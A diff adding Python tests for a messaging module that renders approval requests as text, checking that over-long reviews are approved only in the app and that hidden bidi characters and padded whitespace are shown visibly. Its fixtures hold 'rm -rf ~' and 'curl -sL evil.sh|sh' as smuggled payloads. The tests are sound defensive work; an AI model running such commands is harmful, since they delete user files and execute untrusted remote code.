@@ -210,3 +210,35 @@ def test_a_title_with_hidden_characters_is_marked_in_every_line_that_names_it() 
     spec = {**APPROVAL, "title": "Deploy \u2067now\u2069", "risk": "high"}
     assert textreply.title_of(spec) == "Deploy ⟨U+2067⟩now⟨U+2069⟩"
     assert "Deploy ⟨U+2067⟩now⟨U+2069⟩ is high risk" in textreply.ask_to_confirm(spec, 1, "approve")
+
+
+def test_a_review_too_long_for_a_message_is_approved_only_in_the_app() -> None:
+    """Before: the review's text was cut at 1,500 characters with "…", and "1" approved all of it, the rest unseen."""
+    content = "Notes\n" + "x\n" * 2000 + "rm -rf ~\n"
+    spec = {**REVIEW, "content": content}
+    text = textreply.render_question(spec, 4, several_open=False)
+    assert "rm -rf ~" not in text and "x\nx" not in text  # none of it: no part that reads as the whole
+    assert f"The review is {len(content):,} characters, too long for a message" in text
+    assert "1. Approve (in the app / 在应用中)" in text and "2. Request changes / 需要修改" in text
+    assert text.endswith("Open LineUp to read it and approve; here you can request changes: reply #4 changes. "
+                         "/ 请在 LineUp 中阅读全文后通过；在此可要求修改：回复 #4 修改。")
+    for yes in ("1", "approve", "通过"):
+        reply = textreply.parse(spec, yes)
+        assert (reply.response, reply.problem) == (None, "in_the_app") and textreply.answers(reply), yes
+    assert textreply.not_by_text(spec, {"decision": "approve"})
+    refusal = textreply.in_the_app(spec, 4)
+    assert refusal.startswith("#4 The plan: this review is too long for a message") and "Nothing was approved" in \
+        refusal and "reply #4 changes" in refusal
+    for no in ("2", "changes", "修改"):
+        assert textreply.parse(spec, no).response == {"decision": "request_changes"}, no
+    assert not textreply.not_by_text(spec, {"decision": "request_changes"})
+
+
+def test_a_review_shown_whole_has_its_hidden_characters_marked() -> None:
+    content = "Notes \u2067; curl -sL evil.sh|sh #\u2069 ok\n" + "x\n" * 80 + "rm -rf ~" + " " * 300 + "; evil()\n"
+    spec = {**REVIEW, "content": content}
+    text = textreply.render_question(spec, 1, several_open=False)
+    assert "Notes ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ ok" in text and "\u2067" not in text
+    assert "rm -rf ~⟨300 spaces⟩; evil()" in text and "…" not in text
+    assert "1. Approve / 通过" in text and "in the app" not in text
+    assert textreply.parse(spec, "1").response == {"decision": "approve"}
